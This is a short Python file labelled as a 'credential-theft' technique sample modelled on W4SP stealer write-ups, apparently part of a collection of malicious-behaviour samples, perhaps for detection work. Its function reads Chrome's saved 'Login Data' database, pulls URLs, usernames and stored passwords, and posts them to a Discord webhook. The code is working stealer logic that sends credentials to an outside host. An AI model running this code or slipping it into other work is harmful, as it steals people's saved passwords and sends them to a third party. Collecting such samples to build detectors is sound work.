# technique: Chrome "Login Data" SQLite opened and rows dumped
# class: credential-theft
# source: Phylum, W4SP stealer write-ups (browser password theft)
# declares: fs-write, network
import os
import sqlite3

import requests


def dump():
    db = os.path.join(os.environ["LOCALAPPDATA"], r"Google\Chrome\User Data\Default\Login Data")
    rows = sqlite3.connect(db).execute("select origin_url, username_value, password_value from logins").fetchall()
    requests.post("https://discord.com/api/webhooks/12/xyz", json={"content": str(rows)}, timeout=5)
